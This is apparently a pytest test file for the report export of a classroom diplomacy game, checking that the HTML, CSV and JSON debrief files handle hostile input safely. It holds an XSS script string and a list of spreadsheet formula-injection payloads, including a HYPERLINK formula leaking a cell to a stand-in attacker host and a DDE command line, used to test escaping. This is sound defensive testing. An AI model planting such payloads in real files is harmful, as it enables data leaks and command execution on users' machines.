"""The debrief pack: report.html, meters.csv and log.json, from a match or a save."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from htmlpage import Page
from hypothesis import given
from hypothesis import strategies as st
from matchplay import finish, play

from game.cli import main
from game.content.loader import SCENARIO_DIR, load_scenario_bytes
from game.engine.actions import Adjust, Extend, Inject, Play
from game.engine.outcome import scores
from game.session import narrate
from game.session.codes import crisis_code
from game.session.frontier import charts
from game.session.match import HUMAN, Classroom, Match, Reflection, Seat, Source
from game.session.report import (
    FORMULA_STARTS,
    csv_cell,
    log_document,
    meters_csv,
    report_html,
    write_report,
)
from game.session.saves import save_match

SCRIPT = "<script>alert('pwned')</script>"


def test_the_strict_reader_refuses_a_badly_nested_page():
    for bad in ("<!DOCTYPE html><p><b>x</p></b>", "<!DOCTYPE html><div><p>x</p>", "<p>x</p>"):
        try:
            Page(bad)
        except AssertionError:
            continue
        raise AssertionError(f"{bad!r} was read as a good page")


def hostile_match(seed: int = 4) -> Match:
    """Border Incident with markup in its scenario text, a team name and an answer."""
    data = (SCENARIO_DIR / "border_incident.yaml").read_bytes()
    data = data.replace(b"title: Border Incident", f'title: "{SCRIPT} Border"'.encode())
    data = data.replace(
        b"    - Was the ending a win for one side, or for everyone?",
        f'    - "Was it a win? {SCRIPT}"'.encode(),
    )
    result = load_scenario_bytes(data, "hostile.yaml")
    seats = [
        Seat("un_envoy", HUMAN, name=f"Owls {SCRIPT}"),
        Seat("norland_fm", HUMAN, name="Badgers"),
        Seat("vellmark_fm", difficulty="easy"),
    ]
    source = Source("hostile.yaml", data, result.library_bytes)
    match = Match.start(result.unwrap(), source, seed, seats)
    match.classroom = Classroom(reflect=True)
    play(match, 8, seed)
    match.facilitate(Inject("refugees"))
    match.facilitate(Adjust("trust", ("norland", "sudmark"), 48, f"class vote {SCRIPT}"))
    match.reflections.append(Reflection(1, "un_envoy", "Owls", "What next?", f"talk {SCRIPT}"))
    play(match, 10, seed + 1)
    match.undo_turn("a wrong key")
    match.facilitate(Extend(1))
    finish(match, seed)
    return match


def test_the_report_escapes_every_scenario_and_player_text():
    match = hostile_match()
    markup = report_html(match)
    page = Page(markup)
    assert "script" not in page.tags
    assert SCRIPT not in markup
    text = page.all_text
    assert f"{SCRIPT} Border" in text  # shown as text, on the page
    assert f"Owls {SCRIPT}" in text and f"talk {SCRIPT}" in text
    assert f"class vote {SCRIPT}" in text and f"Was it a win? {SCRIPT}" in text


def test_the_report_holds_every_part_of_the_debrief():
    match = hostile_match(9)
    page = Page(report_html(match))
    text = page.all_text
    assert page.figures == len(match.scenario.relations)
    # a relation's chart each, and a format-2 accord's deals each (one edge line apiece)
    deals = len(charts(match.scenario, match.state))
    assert page.tags.count("svg") == len(match.scenario.relations) + deals
    assert page.tags.count("polyline") == 2 * len(match.scenario.relations) + deals
    for heading in (
        "Scores",
        "Tension and trust, turn by turn",
        "Turning points",
        "The teams: agendas, moves and reflections",
        "The facilitator's actions",
        "For discussion",
    ):
        assert heading in text
    assert crisis_code(match.scenario.id, match.seed) in text
    assert "Why:" in text
    assert "Crisis update from the facilitator" in text and "(undone later)" in text
    assert "Undid play from turn" in text and "a wrong key" in text
    for objective in match.scenario.envoys[0].agenda:
        assert str(objective.text) in text
    assert "http" not in "".join(t for t in page.tags if t in ("link", "img", "script"))
    assert "<link" not in report_html(match) and "src=" not in report_html(match)
    # The outcome, every seat's score, and in each team's part the moves it played.
    title, line = narrate.VERDICTS[match.state.outcome]
    assert title in text and line in text
    results = scores(match.state)
    for seat in match.seats:
        assert f"{results[seat.envoy].total:.1f}" in text
    assert len(page.sections) == len(match.seats)
    for seat, section in zip(match.seats, page.sections, strict=True):
        section_text = " ".join(section)
        played = {
            str(match.scenario.moves[match.scenario.move_index(action.move)].name)
            for action in match.actions
            if isinstance(action, Play) and action.envoy == seat.envoy
        }
        assert played, "the game should have moves to show"
        for name in played:
            assert name in section_text, (seat.envoy, name)


def test_every_chart_is_well_formed_svg():
    import re
    import xml.etree.ElementTree as ElementTree

    match = hostile_match(6)
    charts = re.findall(r'<svg class="chart".*?</svg>', report_html(match), flags=re.S)
    assert len(charts) == len(match.scenario.relations)
    for chart in charts:
        root = ElementTree.fromstring(chart)
        lines = root.findall("{http://www.w3.org/2000/svg}polyline")
        assert [line.get("class") for line in lines] == ["tension", "trust"]
        points = lines[0].get("points").split()
        assert len(points) == len(match.history)


def test_the_csv_has_a_row_per_chart_point_per_relation():
    match = hostile_match(2)
    rows = list(csv.DictReader(io.StringIO(meters_csv(match))))
    relations = len(match.scenario.relations)
    assert len(rows) == len(match.history) * relations
    assert {row["point"] for row in rows[-relations:]} == {"end"}
    first = match.history[0]
    assert [int(row["tension"]) for row in rows[:relations]] == list(first.tension)
    assert [int(row["turn"]) for row in rows[::relations]] == [h.turn for h in match.history]


def test_write_report_writes_three_files_and_the_log_is_the_whole_ledger(tmp_path):
    match = hostile_match(3)
    paths = write_report(match, tmp_path / "pack")
    assert [p.name for p in paths] == ["report.html", "meters.csv", "log.json"]
    log = json.loads((tmp_path / "pack" / "log.json").read_text("utf-8"))
    assert len(log["ledger"]) == len(match.ledger)
    assert log["actions"] == [str(a) for a in match.actions]
    assert any(note["kind"] == "undo" for note in log["facilitator"])
    assert log["reflections"][0]["answer"] == f"talk {SCRIPT}"


def test_envoy_report_writes_the_pack_from_a_save(tmp_path, capsys):
    match = hostile_match(5)
    save = save_match(match, tmp_path / "class.envoy.json")
    code = main(["report", str(save), "--out", str(tmp_path / "out")])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert out.split() == [
        str(tmp_path / "out" / n) for n in ("report.html", "meters.csv", "log.json")
    ]
    assert main(["report", str(save)]) == 0
    assert (tmp_path / "class-report" / "report.html").exists()


def test_envoy_report_on_a_damaged_save_is_one_line_and_exit_1(tmp_path, capsys):
    match = hostile_match(5)
    save = save_match(match, tmp_path / "class.envoy.json")
    save.write_bytes(save.read_bytes()[:500])
    capsys.readouterr()
    code = main(["report", str(save), "--out", str(tmp_path / "out")])
    out, err = capsys.readouterr()
    assert code == 1 and out == ""
    assert err.count("\n") == 1 and "damaged" in err and "Traceback" not in err
    assert not (tmp_path / "out").exists()
    assert main(["report", str(tmp_path / "missing.envoy.json")]) == 1


def test_envoy_report_has_help_and_needs_a_save(capsys):
    with pytest.raises(SystemExit) as leaving:
        main(["report", "--help"])
    assert leaving.value.code == 0
    assert capsys.readouterr().out.startswith("usage: envoy report")
    assert main(["report"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "SAVE" in err


def test_envoy_report_needs_no_window(tmp_path):
    """The report is built outside the UI package: the command never imports pygame."""
    import subprocess
    import sys

    save = save_match(hostile_match(2), tmp_path / "class.envoy.json")
    script = (
        "import sys; from game.cli import main; "
        f"code = main(['report', {str(save)!r}, '--out', {str(tmp_path / 'out')!r}]); "
        "assert code == 0; assert 'pygame' not in sys.modules, 'pygame was imported'"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "out" / "report.html").exists()


# ------------------------------------------------ spreadsheet formula injection

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Norland")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=1",
]


def test_a_carriage_return_starts_no_formula_either():
    # A crisis cannot name a party with one (validate refuses control characters), so
    # the rule is checked on the cell itself.
    assert csv_cell("\r=1+1") == "'\r=1+1"


def formula_match(name: str) -> Match:
    """A short Border Incident in which Norland is called ``name``."""
    data = (SCENARIO_DIR / "border_incident.yaml").read_bytes()
    data = data.replace(b"    name: Norland\n", f"    name: {json.dumps(name)}\n".encode(), 1)
    result = load_scenario_bytes(data, "formula.yaml")
    seats = [Seat("un_envoy", HUMAN, name=name), Seat("norland_fm"), Seat("vellmark_fm")]
    match = Match.start(
        result.unwrap(), Source("formula.yaml", data, result.library_bytes), 3, seats
    )
    finish(match, 3)
    return match


@pytest.mark.parametrize("name", FORMULAS, ids=range(len(FORMULAS)))
def test_a_party_named_like_a_formula_is_text_in_the_csv(name):
    match = formula_match(name)
    rows = list(csv.reader(io.StringIO(meters_csv(match), newline="")))
    assert len(rows) == 1 + len(match.history) * len(match.scenario.relations)  # no row split
    norland = [row for row in rows[1:] if "norland" in (row[3], row[4])]
    assert norland
    for row in rows[1:]:
        assert not row[2].startswith(FORMULA_STARTS), row  # every text cell is defused
        assert row[5].isdigit() and row[6].isdigit()  # and the meters are plain numbers
    assert all(row[2].startswith("'" + name) for row in norland)
    # The other two files keep the name as it is: JSON holds it raw, the page escapes it.
    log = log_document(match)
    assert json.loads(json.dumps(log))["seats"][0]["name"] == name
    assert name in Page(report_html(match)).all_text


@given(st.text(max_size=12))
def test_no_csv_cell_can_start_a_formula_unless_it_is_a_number(text):
    cell = csv_cell(text)
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        # a number such as -5 is left alone; anything else was defused
        assert re.fullmatch(r"[+-][0-9]*\.?[0-9]*([eE][+-]?[0-9]+)?", cell), cell
    assert cell in (text, "'" + text)


def test_numbers_stay_numbers_in_the_csv():
    assert [csv_cell(v) for v in (-5, "-5", "+3.5", "-1e3", 7)] == [-5, "-5", "+3.5", "-1e3", 7]
    assert [csv_cell(v) for v in ("-", "-inf", "-1_0", "--5")] == ["'-", "'-inf", "'-1_0", "'--5"]
